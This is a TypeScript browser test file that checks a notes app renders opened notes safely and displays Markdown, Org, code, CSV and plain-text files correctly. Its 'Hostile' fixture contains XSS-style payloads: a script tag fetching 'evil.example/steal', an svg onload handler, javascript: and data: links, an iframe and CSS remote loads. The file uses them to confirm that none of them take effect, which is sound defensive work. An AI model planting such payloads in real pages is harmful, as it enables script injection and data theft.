import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { startTestServer, type TestServer } from "../../../../server/src/testing/start-test-server.ts";
import { eventually } from "../../testing/eventually.ts";
import { keepPicture, missingBrowser, openBrowser, type TestBrowser } from "../../testing/open-browser.ts";

const hostile = `---
title: Hostile
classification: secret
---
# Hostile

![cat](https://evil.example/cat.png) <img src="https://evil.example/x.png"> ![](//evil.example/y.gif)

<script>window.broken = true; fetch("https://evil.example/steal")</script>

<svg onload="window.broken = true"><image href="https://evil.example/z.svg"/></svg>

[run](javascript:window.broken=true) [data](data:text/html,x) [plain](https://evil.example/path) [[Other note]]

<iframe src="https://evil.example"></iframe> <style>body{background:url(https://evil.example/b.png)}</style>

A line with entities &amp; escapes \\*not bold\\* and a **marked word** at its end: zebra.
`;

const org = `#+TITLE: Garden
* TODO Stake the tomatoes :vegetables:
SCHEDULED: <2026-06-02 Tue>
:PROPERTIES:
:ROW: 3
:END:
Water /slowly/, see [[https://example.org/water][the guide]].
- [X] saw
- [ ] graft
| month | rain |
|-------+------|
| May   |   71 |
#+begin_src python
print("zebra")
#+end_src
`;

describe.skipIf(missingBrowser !== "")(`an opened note${missingBrowser}`, () => {
  let server: TestServer;
  let browser: TestBrowser;
  beforeAll(async () => {
    server = await startTestServer();
    const code = Array.from(
      { length: 1200 },
      (_, index) => `const line${index + 1} = ${index === 899 ? '"zebra"' : index};`,
    );
    await server.upload(
      [
        { name: "Hostile.md", content: hostile },
        { name: "deep/Other note.md", content: "# Other note\n\nFound by its name.\n" },
        { name: "Garden.org", content: org, type: "text/org" },
        { name: "long.ts", content: code.join("\n"), type: "text/plain" },
        { name: "rain.csv", content: 'month,rain\nMay,71\n"June, late",48\n', type: "text/csv" },
        { name: "notes.txt", content: "first line\n  indented zebra\n", type: "text/plain" },
      ],
      { path: "/api/content?client=web" },
    );
    browser = await openBrowser(server.url);
  });
  afterAll(async () => {
    await browser?.close();
    await server?.stop();
  });

  test("has no effect: nothing remote is loaded, no script runs, no link leads into one", async () => {
    const page = await browser.open("/?q=zebra&open=Hostile.md");
    const note = opened(page);
    await note.getByText("picture at evil.example, not loaded").first().waitFor();
    await keepPicture(page, "test-hostile");
    expect(await note.locator("img, script, iframe, style, svg image").count()).toBe(0);
    expect(await page.evaluate("window.broken")).toBeUndefined();
    expect(await note.locator('a[href^="javascript"], a[href^="data"]').count()).toBe(0);
    expect(await note.getByText("<script>").count()).toBe(1);
    expect([...browser.hosts]).toEqual([new URL(server.url).host]);
    await page.close();
  });

  test("says where a link goes before it is followed", async () => {
    const page = await browser.open("/?open=Hostile.md");
    const link = opened(page).getByRole("link", { name: /^plain/ });
    await link.waitFor();
    expect(await link.textContent()).toContain("evil.example");
    expect(await link.getAttribute("rel")).toContain("noreferrer");
    await page.close();
  });

  test("marks a word behind escapes and entities where it stands", async () => {
    const page = await browser.open("/?q=zebra&open=Hostile.md");
    await eventually(() => opened(page).locator("mark").allTextContents()).toEqual(["zebra"]);
    await page.close();
  });

  test("leads from note to note by name", async () => {
    const page = await browser.open("/?open=Hostile.md");
    await opened(page).getByRole("button", { name: "Other note" }).click();
    await opened(page).getByText("Found by its name.").waitFor();
    await page.close();
  });

  test("reads Org with its states, tags, drawers, tables and code", async () => {
    const page = await browser.open("/?q=zebra&open=Garden.org");
    const note = opened(page);
    await note.getByRole("heading", { name: /Stake the tomatoes/ }).waitFor();
    await keepPicture(page, "test-org");
    expect(await note.getByText("TODO", { exact: true }).count()).toBe(1);
    expect(await note.getByRole("link", { name: "vegetables" }).count()).toBe(1);
    expect(await note.getByRole("cell", { name: "71" }).count()).toBe(1);
    expect(await note.getByRole("checkbox", { name: "done" }).count()).toBe(1);
    expect(await note.locator("pre mark").allTextContents()).toEqual(["zebra"]);
    await page.close();
  });

  test("shows code with line numbers and goes to line 900", async () => {
    const page = await browser.open("/?q=zebra");
    await page
      .getByRole("list", { name: "Results" })
      .getByRole("link", { name: /long.ts/ })
      .click();
    const line = opened(page).locator('[data-line="900"]');
    await line.locator("mark").waitFor();
    await eventually(() => inSight(page, '[data-line="900"]')).toBe(true);
    await keepPicture(page, "test-code");
    await page.close();
  });

  test("shows separated values as a table, and plain text as it was written", async () => {
    const page = await browser.open("/?open=rain.csv");
    await opened(page).getByRole("columnheader", { name: "rain" }).waitFor();
    expect(await opened(page).getByRole("cell", { name: "June, late" }).count()).toBe(1);
    await page.goto(`${server.url}/?open=notes.txt&q=zebra`);
    await opened(page).locator("mark").waitFor();
    expect(await opened(page).locator(".note-plain").textContent()).toContain("first line\n  indented zebra");
    await page.close();
  });

  test("says so when it is not there any more", async () => {
    const page = await browser.open("/?open=never.md");
    await page.getByRole("heading", { name: "This note is not here any more" }).waitFor();
    await page.close();
  });

  test("broke no rule of the policy", () => {
    expect(browser.complaints).toEqual([]);
  });
});

const opened = (page: Page) => page.getByRole("complementary", { name: "Opened note" });

const inSight = (page: Page, selector: string): Promise<unknown> =>
  page.evaluate(`(() => {
    const box = document.querySelector(${JSON.stringify(selector)}).getBoundingClientRect();
    return box.top >= 0 && box.bottom <= innerHeight;
  })()`);
